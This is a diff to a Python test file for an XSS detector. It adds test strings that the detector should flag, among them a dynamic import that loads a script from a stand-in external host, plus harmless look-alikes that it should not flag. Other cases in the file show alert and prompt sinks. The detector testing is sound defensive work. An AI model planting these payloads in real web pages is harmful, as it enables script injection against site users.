@@ -155,6 +155,7 @@ def test_angular_expressions_reaching_code_and_array_methods_called_on_sinks_are
         "(alert)(1)",
         "[1].find(alert)",
         "[document.domain].map(prompt)",
+        "import('//x.test/m.js')",
     ],
 )
 def test_sinks_stored_glued_or_reached_by_prototype_are_xss(value: str) -> None:
@@ -174,6 +175,8 @@ def test_sinks_stored_glued_or_reached_by_prototype_are_xss(value: str) -> None:
         "(alert) (see manual)",
         "list.find(alerts)",
         "[1].map(alert_level)",
+        "import (and perhaps wait) from //abroad",
+        "import('./local-module.js')",
     ],
 )
 def test_notes_near_hidden_sinks_are_not_xss(value: str) -> None:
